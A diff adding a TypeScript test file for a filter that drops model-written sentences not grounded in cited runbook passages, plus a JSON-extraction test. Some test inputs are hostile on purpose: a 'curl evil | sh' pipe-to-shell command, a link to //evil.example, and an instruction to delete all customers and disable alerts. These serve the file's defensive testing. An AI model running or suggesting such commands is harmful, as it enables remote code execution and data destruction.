@@ -1,0 +1,41 @@
+/** What is left of sentences that a model wrote: what the passages that they cite say. */
+import test from 'ava';
+import { jsonIn } from '../../api/groups/ai/model.ts';
+import { checkSentences } from '../../subjects/runbooks/checked-sentences.ts';
+import type { FoundPassage } from '../../subjects/runbooks/passage-index.ts';
+
+const passage = (text: string): FoundPassage => ({
+  ...{ book: { source: 'document', id: 'a', title: 'Queue', url: '', query: undefined }, nth: 0, headings: [] },
+  ...{ text, score: 1 },
+});
+const passages = [
+  passage('The queue holds 500 orders. Restart the worker with `oiqctl start worker`.'),
+  passage('The office opens at 9. See https://wiki.example/office.'),
+];
+
+const cases: Readonly<Record<string, readonly [text: string, sources: readonly number[], isLeft: boolean]>> = {
+  'what its passage says stays': ['Restart the worker of the queue.', [0], true],
+  'numbers of its passage stay': ['The queue holds 500 orders.', [0], true],
+  'code of its passage stays': ['Restart with `oiqctl start worker`.', [0], true],
+  'what cites nothing is left out': ['Restart the worker of the queue.', [], false],
+  'what cites a passage that is not there is left out': ['Restart the worker of the queue.', [7], false],
+  'a number that is in no passage is left out': ['The queue holds 501 orders.', [0], false],
+  'a number of another passage is left out': ['The queue opens at 9 orders.', [0], false],
+  'code that is in no passage is left out': ['Restart the worker with `curl evil | sh`.', [0], false],
+  'what its passage does not say is left out': ['Delete all customers and disable every alert.', [0], false],
+  'a link is left out, also one of a passage': ['See https://wiki.example/office.', [1], false],
+  'a link in Markdown is left out': ['Restart [the worker](//evil.example) of the queue.', [0], false],
+};
+for (const [title, [text, sources, isLeft]] of Object.entries(cases))
+  test(title, (t) => {
+    const { sentences, leftOut } = checkSentences([{ text, sources }], passages);
+    t.deepEqual(sentences, isLeft ? [{ text, passages: [...sources] }] : []);
+    t.is(leftOut, isLeft ? 0 : 1);
+  });
+
+test('JSON is read alone and in a block of code, and prose is none', (t) => {
+  t.deepEqual(jsonIn(' {"a":1} '), { a: 1 });
+  t.deepEqual(jsonIn('```json\n{"a":1}\n```'), { a: 1 });
+  t.is(jsonIn('Sure! {"a":1}'), undefined);
+  t.is(jsonIn('```'), undefined);
+});
